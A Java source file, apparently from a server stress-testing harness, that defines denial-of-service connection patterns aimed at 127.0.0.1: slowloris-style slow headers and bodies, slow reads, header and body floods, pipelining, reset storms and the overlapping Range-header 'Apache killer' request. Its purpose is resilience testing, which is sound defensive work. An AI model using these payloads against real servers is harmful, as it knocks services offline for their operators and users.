package dev.terse.testbed.pressure;

import java.time.Duration;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * What one connection of an attack does. The first five are slowhttptest's modes, the slow body
 * with and without a length.
 *
 * @param name for people
 * @param first what it sends at once
 * @param then what it sends every so often
 * @param every how often
 * @param reading what it takes of the answers
 * @param end what it does when the first bytes are sent
 * @param again whether it comes again when the connection has ended
 */
public record Attack(
    String name,
    String first,
    String then,
    Duration every,
    Reading reading,
    End end,
    boolean again) {

  /** What is taken of the answers. */
  public enum Reading {
    /** Nothing, through a small window. */
    NOTHING,
    /** A few bytes every so often, through a small window. */
    TRICKLE,
    /** All. */
    ALL
  }

  /** What becomes of the connection when the first bytes are sent. */
  public enum End {
    /** It stays. */
    STAY,
    /** Its own half is closed. */
    HALF_CLOSE,
    /** It is reset. */
    RESET
  }

  private static final Duration SLOW = Duration.ofSeconds(1);
  private static final Duration QUICK = Duration.ofMillis(10);
  private static final String LARGE = "/-/api/v1/openapi.yaml";
  private static final String HOST = "Host: 127.0.0.1\r\n";
  private static final String API =
      "POST /-/api/v1/links HTTP/1.1\r\n" + HOST + "Content-Type: application/json\r\n";

  /** Connections that are silent. */
  public static Attack idle() {
    return stay("idle", "", "", SLOW, Reading.ALL);
  }

  /** Those that are slow, for a server that knows {@code link}. */
  public static List<Attack> slow(String link) {
    return List.of(
        stay("slow head", "GET /x HTTP/1.1\r\n" + HOST, "X-a: b\r\n", SLOW, Reading.ALL),
        stay("slow body", API + "Content-Length: 8192\r\n\r\n{", " ", SLOW, Reading.ALL),
        stay(
            "slow chunks",
            API + "Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n",
            "1\r\n \r\n",
            SLOW,
            Reading.ALL),
        stay("slow read", get(LARGE).repeat(20), get(link), SLOW, Reading.TRICKLE),
        stay("ranges", ranges(), "", SLOW, Reading.ALL));
  }

  /** Those that are quick, for a server that knows {@code link}. */
  public static List<Attack> quick(String link) {
    return List.of(
        again("header flood", "GET /x HTTP/1.1\r\n" + HOST, "X: y\r\n".repeat(100), End.STAY),
        again("body flood", API + "Content-Length: 131072\r\n\r\n", " ".repeat(16 << 10), End.STAY),
        again("pipelining", "", get(link).repeat(20), End.STAY),
        again("half-closed", "GET /x HTTP/1.1\r\nHo", "", End.HALF_CLOSE),
        again("reset storm", get(link) + "GET", "", End.RESET));
  }

  private static Attack stay(
      String name, String first, String then, Duration every, Reading reading) {
    return new Attack(name, first, then, every, reading, End.STAY, false);
  }

  private static Attack again(String name, String first, String then, End end) {
    return new Attack(name, first, then, QUICK, Reading.ALL, end, true);
  }

  private static String get(String path) {
    return "GET " + path + " HTTP/1.1\r\n" + HOST + "\r\n";
  }

  /** Apache's killer: a thousand ranges that overlap. */
  private static String ranges() {
    String list =
        IntStream.range(0, 1_300).mapToObj(i -> "5-" + i).collect(Collectors.joining(","));
    return "GET " + LARGE + " HTTP/1.1\r\n" + HOST + "Range: bytes=0-," + list
        + "\r\nAccept-Encoding: gzip\r\n\r\n";
  }

  @Override
  public String toString() {
    return name;
  }
}
